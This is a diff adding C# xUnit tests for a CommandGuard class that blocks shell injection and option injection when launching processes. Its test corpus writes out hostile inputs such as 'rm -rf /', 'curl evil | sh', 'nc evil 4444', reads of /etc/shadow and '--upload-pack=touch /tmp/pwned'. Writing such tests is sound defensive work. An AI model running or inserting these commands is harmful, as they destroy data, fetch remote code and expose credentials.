@@ -1,0 +1,108 @@
+using System.Diagnostics;
+using McpAnalyzers.Runtime;
+
+namespace McpAnalyzers.Runtime.Tests;
+
+/// <summary>CommandGuard: program allowlist, no shells, arguments as a list after "--", and a metacharacter corpus.</summary>
+public sealed class CommandGuardTests
+{
+    private static readonly CommandGuard Guard = new("git", "echo", "/bin/echo");
+
+    public static TheoryData<string> ShellPayloads()
+    {
+        var data = new TheoryData<string>();
+        foreach (var payload in new[]
+        {
+            "x; rm -rf /", "x && curl evil | sh", "x || id", "$(id)", "`id`", "x | nc evil 4444", "x > /etc/passwd", "x < /etc/shadow",
+            "a b", "a\tb", "\"quoted\"", "'quoted'", "x\\y", "${IFS}id", "x&calc", "%PATH%", "!history", "~root", "*", "file?.txt",
+            "{a,b}", "[ab]", "x#comment", "x^y", "a=b", "a,b",
+        })
+        {
+            data.Add(payload);
+        }
+
+        return data;
+    }
+
+    [Theory]
+    [MemberData(nameof(ShellPayloads))]
+    public void InlineArgument_RefusesShellMetacharacters(string payload)
+        => Assert.Contains(Assert.Throws<CommandGuardException>(() => Guard.InlineArgument(payload)).Reason, new[] { CommandRefusal.Metacharacter, CommandRefusal.ControlCharacter });
+
+    [Theory]
+    [InlineData("--upload-pack=touch /tmp/pwned")]
+    [InlineData("-oProxyCommand=id")]
+    [InlineData("--output=/etc/passwd")]
+    [InlineData("-")]
+    public void Argument_RefusesOptions(string payload)
+    {
+        var exception = Assert.Throws<CommandGuardException>(() => Guard.Argument(payload));
+        Assert.Equal(CommandRefusal.LeadingDash, exception.Reason);
+        Assert.Contains("--", exception.Message, StringComparison.Ordinal);
+    }
+
+    [Theory]
+    [InlineData("a\0b")]
+    [InlineData("a\nb")]
+    [InlineData("a\rb")]
+    public void Argument_RefusesControlCharacters(string payload)
+        => Assert.Equal(CommandRefusal.ControlCharacter, Assert.Throws<CommandGuardException>(() => Guard.Argument(payload)).Reason);
+
+    [Theory]
+    [InlineData("main")]
+    [InlineData("feature/login-page")]
+    [InlineData("v1.2.3")]
+    public void Arguments_AcceptPlainValues(string value)
+    {
+        Assert.Equal(value, Guard.Argument(value));
+        Assert.Equal(value, Guard.InlineArgument(value));
+    }
+
+    [Theory]
+    [InlineData("bash")]
+    [InlineData("/usr/bin/curl")]
+    [InlineData("git ")]
+    [InlineData("./git")]
+    [InlineData("GIT")]
+    [InlineData("")]
+    public void Executable_RefusesWhatIsNotAllowlisted(string executable)
+        => Assert.Throws<CommandGuardException>(() => Guard.Executable(executable));
+
+    [Theory]
+    [InlineData("sh")]
+    [InlineData("/bin/bash")]
+    [InlineData("cmd.exe")]
+    [InlineData("pwsh")]
+    [InlineData("python3.12")]
+    [InlineData("env")]
+    [InlineData("sudo")]
+    public void Constructor_RefusesShellsAndInterpreters(string interpreter)
+    {
+        var exception = Assert.Throws<ArgumentException>(() => new CommandGuard(interpreter));
+        Assert.Contains("interpreter", exception.Message, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void FromEnvironment_ExplainsAMissingVariable()
+    {
+        var exception = Assert.Throws<InvalidOperationException>(() => CommandGuard.FromEnvironment("MCPANALYZERS_TEST_UNSET_" + Guid.NewGuid().ToString("N")));
+        Assert.Contains("is not set", exception.Message, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task CreateStartInfo_RunsTheProgramWithOperandsAfterEndOfOptions_AndNoShell()
+    {
+        var info = Guard.CreateStartInfo("/bin/echo", new[] { "-n" }, new[] { "$(id)", "a;b" });
+        Assert.False(info.UseShellExecute);
+        Assert.Equal(new[] { "-n", "--", "$(id)", "a;b" }, info.ArgumentList);
+
+        using var process = Process.Start(info)!;
+        var output = await process.StandardOutput.ReadToEndAsync();
+        await process.WaitForExitAsync();
+        Assert.Equal("-- $(id) a;b", output); // echo prints its arguments literally: nothing was expanded
+    }
+
+    [Fact]
+    public void CreateStartInfo_RefusesAnOperandThatIsAnOption()
+        => Assert.Throws<CommandGuardException>(() => Guard.CreateStartInfo("git", new[] { "log" }, new[] { "--output=/tmp/x" }));
+}
